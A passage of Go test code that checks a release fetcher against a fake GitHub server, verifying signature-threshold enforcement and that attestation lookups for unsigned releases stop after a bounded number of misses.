		g := newFakeGitHub(t)
		assets := ghFixtureAssets(t, "SHA256SUMS.asc", "SHA256SUMS.asc")
		assets = append(assets, ghAsset{name: "SHA256SUMS.sig", body: webFixture(t, "release", "SHA256SUMS.cosign.sig")})
		g.release(t, "v1", ghPublished, assets...)
		rel, err := g.source(t, GitHubOptions{Threshold: 2}).Fetch(t.Context(), "v1")
		require.NoError(t, err)
		assert.Len(t, rel.Signers, 2)
		_, err = g.source(t, GitHubOptions{Threshold: 3}).Fetch(t.Context(), "v1")
		assert.ErrorIs(t, err, signing.ErrThresholdNotMet)
	})
}

// Anyone who can create releases gets their assets listed with digests: a release whose
// first few lookups find nothing is given up, not looked up asset by asset.
func TestGitHubAttestationLookupsAreBounded(t *testing.T) {
	g := newFakeAttestations(t)
	var assets []any
	for i := range 10 {
		body := []byte(fmt.Sprintf("asset %d", i))
		assets = append(assets, map[string]any{"id": 500 + i, "name": fmt.Sprintf("a%d", i), "size": len(body), "state": "uploaded",
			"digest": "sha256:" + webSHA(body).String()})
	}
	g.putJSON(t, "/repos/sigstore/sigstore-js/releases/tags/v9.9.9", map[string]any{"tag_name": "v9.9.9", "assets": assets})
	_, err := g.source(t, GitHubOptions{Repo: "sigstore/sigstore-js", Attestations: true, Keys: keylessKeys(t, jsIdentity), Checksums: "-"}).Fetch(t.Context(), "v9.9.9")
	assert.ErrorIs(t, err, ErrUnsigned)
	lookups := 0
	for _, p := range g.api.paths() {
		if strings.Contains(p, "/attestations/") {
			lookups++
		}
	}
	assert.Equal(t, maxAttestationMisses, lookups)
}
